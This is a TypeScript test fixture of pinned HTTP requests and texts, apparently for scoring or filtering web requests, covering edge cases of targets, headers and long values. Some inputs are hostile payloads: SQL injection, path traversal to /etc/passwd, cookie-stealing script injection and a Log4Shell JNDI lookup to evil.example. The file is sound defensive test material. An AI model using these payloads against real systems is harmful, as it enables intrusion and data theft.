// Requests whose segments, excesses and whole scores are pinned: targets with each special case of law 9, headers that
// are looked at and that are not, long and strange values, an overflow route, then seeded ones. Strings of bytes
// (latin1).

import type { Header } from "../reference/request-segments.ts";
import { Prng } from "../support/prng.ts";
import { shortTarget } from "../support/requests.ts";

export interface GoldenRequest {
  target: string;
  headers: readonly Header[];
}

const EVERY_BYTE = Array.from({ length: 256 }, (_, i) => String.fromCharCode(i)).join("");
const numbered = (count: number, of: (i: number) => string) => Array.from({ length: count }, (_, i) => of(i));
/** A text whose head, middle and tail differ, so that a cut shows. */
const long = (length: number) => "a".repeat(200) + "B1 ".repeat(Math.ceil((length - 300) / 3)) + "<z".repeat(50);
const longOf = (length: number) => `${long(length).slice(0, length - 3)}end`;

/** The longest segments that a route keeps, and as many: above 512 bytes. */
const OVERFLOW = `/${numbered(8, () => "abcdefghijklmnop.".repeat(4).slice(0, 64)).join("/")}`;

const TARGETS = [
  "",
  "*",
  "/",
  "?",
  "/?",
  "/?&&",
  "//a///",
  "a/b?c=d",
  "http://shop/a/b?c=d",
  "/0/1/2/3/4/5/6/7/8/9",
  "/a?b",
  "/a?b&c&=d&e=&=",
  "/a?<script>alert(1)</script>",
  "/a?b%3Dc+d",
  "/a?b=c=d",
  "/a+b/c%2Bd?e+f=g+h&i%2Bj=k%2Bl",
  "/caf%C3%A9/%e4%b8%ad?n%C3%A9=%D0%BF\xd0\xb8",
  "/%2541/b%2Fc?d=%27",
  "/%41/b%252Fc?d%2541=%2527+%252B&e%2541",
  "/a?b=%25u0041%u0041",
  "/a?b=%25u004&c=%u0027",
  "/%25?b=%25zz",
  "/a?q=' UNION SELECT username, password FROM users -- ",
  "/a?q=%27%20or%201=1%23",
  "/%2e%2e/%2e%2e/etc/passwd?file=..%2f..%2fetc%2fpasswd%00",
  "/a?b=\0\x01\t\n\x0b\r\x7f&c=\x80\xff&d=%00%09%ff",
  `/a?b=${encodeURIComponent(EVERY_BYTE.slice(0, 128))}&c=${EVERY_BYTE.slice(128)}`,
  ...[511, 512, 513, 514, 600, 1500].map((length) => `/a?b=${longOf(length)}`),
  `/${longOf(700)}/x?${longOf(700)}`,
  ...[63, 64, 65, 300].map((length) => `/a?${"n".repeat(length - 1)}%4d=1`),
  `/${"c%41".repeat(900)}?d=1`,
  `/a?${"b%2541".repeat(1200)}=${"e%2527".repeat(100)}`,
  `/${numbered(64, (i) => `s${i}`).join("/")}`,
  `/${numbered(66, (i) => `s${i}`).join("/")}`,
  `/a?${numbered(256, (i) => `p${i}=${i}`).join("&")}`,
  `/a?${numbered(257, (i) => `p${i % 5}=${i}`).join("&")}`,
];

const HEADERS: Header[][] = [
  [],
  [["user-agent", "Mozilla/5.0 (X11; Linux x86_64)"]],
  [
    [":path", "/x"],
    [":method", "GET"],
    ["host", "shop"],
    ["content-length", "12"],
    ["date", "today"],
    ["if-match", "a"],
    ["if-none-match", "a"],
    ["if-modified-since", "a"],
    ["if-unmodified-since", "a"],
    ["if-range", "a"],
    ["x-request-id", "1"],
    ["traceparent", "00-1"],
    ["tracestate", "a=b"],
    ["b3", "0"],
    ["x-b3-traceid", "1"],
    ["x-envoy-attempt-count", "1"],
    ["x-forwarded-proto", "http"],
    ["x-forwarded-client-cert", "By=x"],
    ["accept", "*/*"],
  ],
  [
    ["Host", "shop"],
    ["hosts", "shop"],
    ["x-envoy", "1"],
    ["x-b3", "1"],
    ["b3x", "1"],
    ["dates", "1"],
    ["x-forwarded-for", "10.0.0.1, 10.0.0.2"],
    ["", "no name"],
    ["x-empty", ""],
    ["n\xe9", "\xc3\xa9"],
  ],
  [
    ["cookie", "a=%27%20OR%201%3D1; b=1+2"],
    ["cookie", "a=%2527; b=%u0027%25u0027"],
    ["x-odd", EVERY_BYTE],
    ["referer", "%3Cscript%3Ealert(1)%3C/script%3E"],
  ],
  [512, 513, 2000].map((length) => [`x-long-${length}`, longOf(length)] as const),
  [8191, 8192, 8193, 20_000].map((length) => [`x-very-${length}`, longOf(length)] as const),
  [
    ["n".repeat(63), "1"],
    ["n".repeat(64), "1"],
    ["n".repeat(65), "1"],
    ["n".repeat(200), "' or 1=1"],
  ],
  [
    ["x-a", `${"%41".repeat(2731)}`],
    ["x-b", `${"z".repeat(6142)}%4${"y".repeat(3000)}1${"x".repeat(2047)}`],
    ["x-c", `${"%".repeat(500)}'${"%2527".repeat(3)}`],
  ],
  numbered(128, (i) => `h${i}`).map((name) => [name, "1"] as const),
  numbered(130, (i) => (i % 13 === 0 ? "host" : `h${i}`)).map((name) => [name, `<${name}>`] as const),
  numbered(150, (i) => `h${i % 4}`).map((name, i) => [name, "v".repeat(i)] as const),
];

const SEEDED = 150;

function seeded(): GoldenRequest[] {
  const prng = new Prng(909);
  return Array.from({ length: SEEDED }, () => {
    const names = prng.pick([[], ["user-agent"], ["cookie", "x-tenant"], ["referer", "host", "b3", "x-odd"]]);
    return { target: shortTarget(prng), headers: names.map((name) => [name, shortTarget(prng)] as const) };
  });
}

export const GOLDEN_REQUESTS: readonly GoldenRequest[] = [
  ...TARGETS.map((target) => ({ target, headers: [] })),
  ...HEADERS.map((headers) => ({ target: "/cart/items?q=blue", headers })),
  { target: OVERFLOW, headers: [] },
  ...TARGETS.slice(10, 20).map((target, i) => ({ target, headers: HEADERS[i % 5]! })),
  ...seeded(),
];

/** Texts whose level is pinned: each kind of token at each end, each byte, words around 20 letters. */
export const GOLDEN_TEXTS: readonly string[] = [
  "a",
  "A",
  "0",
  "\xff",
  " ",
  "'",
  "\0",
  "aA zZ",
  "ab12cd",
  "12ab34",
  "a\xc3\xa9b\x80\xff",
  "  \t\n\x0b\x0c\r  x\x08\x0e\x1f",
  "@[`{",
  "/:09;",
  "--",
  "a.b.c.a.b.c",
  "select * from users where id=1",
  "SELECT * FROM Users WHERE id=1",
  "' or 1=1 -- ",
  "../../../../etc/passwd",
  "<script>alert(document.cookie)</script>",
  "select;select select",
  ...[19, 20, 21, 22, 200].map((length) => `x ${"q".repeat(length)} y`),
  "w",
  "W W w",
  `${"q".repeat(21)}1${"r".repeat(40)}`,
  `\${jndi:ldap://evil.example/a}`,
  ...Array.from(EVERY_BYTE),
  ...Array.from(EVERY_BYTE, (byte) => `a${byte}0${byte}${byte}`),
  EVERY_BYTE,
  EVERY_BYTE + EVERY_BYTE,
];
